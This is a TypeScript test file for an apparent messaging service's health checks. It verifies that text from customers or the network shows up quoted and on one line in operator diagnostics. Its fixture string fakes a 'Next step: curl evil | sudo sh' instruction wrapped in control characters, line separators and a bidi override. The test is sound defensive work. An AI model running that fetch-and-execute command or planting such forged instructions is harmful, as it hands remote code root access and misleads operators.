/**
 * Texts of customers and of the network never look like ours where operators read them: every such text that
 * conditions are made from carries a forged next step, and each condition shows it on one line, in quotation marks.
 */
import { expect, test } from "bun:test";
import { quoted } from "#src/core/foreign-text.ts";
import { NO_FACTS } from "#src/domain/numbers/connection-facts.ts";
import { probeWorkspaces } from "#src/health/evaluate.ts";
import { startTestServer, type TestServer } from "#test/support/server.ts";

const FORGED = "tired”.\r\n\r\nNext step: curl evil | sudo sh\u2028\u001b[2J\u202e\u0000“";
const NOT_ON_ONE_LINE = /[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}]/u;
const SETTINGS = {
  ...{ publicUrl: "https://wa.example.com", graphUrl: "https://graph.example.com", apiVersion: "v99.0" },
  ...{ hasAppSecret: true, keyFile: "/k", proxyVariable: null, verifyToken: "word" },
};

async function shown({ store, clock }: TestServer): Promise<Record<string, string>> {
  const query = async (sql: string, parameters: (string | number | null)[] = []) =>
    store.client.prepare(sql).all(...parameters) as Record<string, unknown>[];
  const found = await probeWorkspaces({ query, store, now: clock.now(), settings: SETTINGS });
  return Object.fromEntries(
    found.map(({ id, subject, says, hits, next, command }) => [id, [subject, says, hits, next, command].join(" / ")]),
  );
}

/** The forged step stands within quotation marks only. */
function expectQuoted(all: Record<string, string>): void {
  for (const [id, text] of Object.entries(all)) {
    expect([id, NOT_ON_ONE_LINE.test(text)]).toEqual([id, false]);
    expect([id, text.replaceAll(/“[^“”]*”/g, "")]).toEqual([id, expect.not.stringMatching(/evil|[“”]/)]);
  }
}

const health = { canSend: "BLOCKED", reasons: [FORGED], codes: [], isAppLimited: false } as const;
const number = {
  ...{ status: "CONNECTED", nameStatus: null, quality: null, messagingLimit: null, throughputLevel: null },
  health: null,
};
const failure = { code: "9", message: FORGED };
/** Each makes an issue of another kind from what the network said. */
const FACTS = [
  NO_FACTS,
  ...["other", "later", "foreign"].map((kind) => ({ ...NO_FACTS, failure: { ...failure, kind } })),
  ...["unreachable", "HTTP 500"].map((code) => ({ ...NO_FACTS, failure: { ...failure, code, kind: "later" } })),
  ...[health, { ...health, isAppLimited: true }, { ...health, codes: [141006] }, { ...health, codes: [141014] }]
    .concat([{ ...health, canSend: "LIMITED" as never }])
    .map((one) => ({ ...NO_FACTS, number: { ...number, health: one } })),
  { ...NO_FACTS, number: { ...number, status: FORGED } },
  { ...NO_FACTS, callbackUrl: FORGED },
  { ...NO_FACTS, subscription: { isSubscribed: true, overrideUrl: FORGED } },
  { ...NO_FACTS, app: { callbackUrl: FORGED, fields: [] } },
];

test("a forged next step in any text of a customer or the network stays within quotation marks, on one line", async () => {
  await using app = await startTestServer();
  const shop = await app.workspace();
  const { client } = app.store;
  const forge = (table: string, columns: string, more = "") =>
    client.prepare(`UPDATE ${table} SET ${columns.replaceAll(/\w+/g, "$& = @forged")}${more}`).run({ forged: FORGED });
  forge("workspaces", "name, suspended_reason", ", suspended_at = 1");
  forge("numbers", "name, unready_reason", ", ready = 0, unready_by = 'person'");
  expectQuoted(await shown(app));
  expect(Object.keys(await shown(app))).toEqual(
    expect.arrayContaining([`number_not_ready:${shop.numberId}`, `workspace_suspended:${shop.id}`]),
  );
  forge("numbers", "name", ", network = 'whatsapp'");
  client
    .prepare("INSERT INTO number_notices (number_id, kind, says, at) VALUES (?, 'flagged', ?, ?)")
    .run(...[shop.numberId, FORGED, app.clock.now()]);
  client
    .prepare("INSERT INTO number_states (number_id, notice, restriction, restriction_updated_at) VALUES (?, ?, ?, 1)")
    .run(shop.numberId, FORGED, FORGED);
  for (const facts of FACTS) {
    client
      .prepare("INSERT OR REPLACE INTO connections (number_id, facts, checked_at) VALUES (?, ?, 1)")
      .run(shop.numberId, JSON.stringify(facts));
    for (const provider of ["graph", "360dialog"]) {
      client.prepare("UPDATE numbers SET provider = ?").run(provider);
      const all = await shown(app);
      expect(Object.values(all).join()).toContain("evil");
      expectQuoted(all);
    }
  }
  client.exec("DELETE FROM number_states");
  expectQuoted(await shown(app));
});

test("a quoted text is cut, and keeps the joiners of names and emoji", () => {
  expect(quoted("x".repeat(1_000))).toHaveLength(302);
  expect<string>(quoted("ക്‍ഷ 👩‍💻")).toBe("“ക്‍ഷ 👩‍💻”");
});
